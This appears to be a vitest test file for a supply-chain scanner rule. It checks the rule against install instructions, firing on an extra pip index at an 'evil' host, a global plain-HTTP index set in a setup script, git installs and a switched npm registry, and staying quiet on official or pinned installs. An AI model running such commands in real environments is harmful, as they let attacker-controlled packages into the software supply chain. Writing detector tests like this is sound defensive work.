import { describe } from 'vitest';
import { itFires, itStaysQuiet, md } from '../../test/rule-cases.js';

describe('supply-chain', () => {
  itFires([
    {
      name: 'custom index',
      files: md('pip install --extra-index-url https://pkgs.evil.example/simple internal-utils'),
      rule: 'SUPPLY_CHAIN_UNTRUSTED_SOURCE',
      severity: 'HIGH',
    },
    { name: 'install from git', files: md('pip install git+https://github.com/someone/tool.git'), rule: 'SUPPLY_CHAIN_UNTRUSTED_SOURCE', severity: 'MEDIUM' },
    {
      name: 'a plain-HTTP extra index set in pip configuration for every later install',
      files: {
        ...md('Sets up the environment.'),
        'setup.sh': '#!/bin/sh\npip config set global.extra-index-url http://pypi.internal-mirror.example/simple/\npip install -r requirements.txt\n',
      },
      rule: 'SUPPLY_CHAIN_UNTRUSTED_SOURCE',
      severity: 'HIGH',
    },
    {
      name: 'npm registry switched by config',
      files: md('Run `npm config set registry https://npm.mirror-fast.example/`.'),
      rule: 'SUPPLY_CHAIN_UNTRUSTED_SOURCE',
    },
  ]);

  itStaysQuiet([
    {
      name: 'pip configuration pointing at the official index',
      files: md('`pip config set global.index-url https://pypi.org/simple`'),
      rule: 'SUPPLY_CHAIN_UNTRUSTED_SOURCE',
    },
    {
      name: 'install docs',
      files: md(
        '```bash\nnpm install\npip install -r requirements.txt\nbrew install jq\nexport PATH="$HOME/.local/bin:$PATH"\n```\nSee https://docs.example.org/setup.',
      ),
    },
    { name: 'pinned registry install', files: md('pip install requests==2.32.3\nnpm install lodash@4.17.21') },
  ]);
});
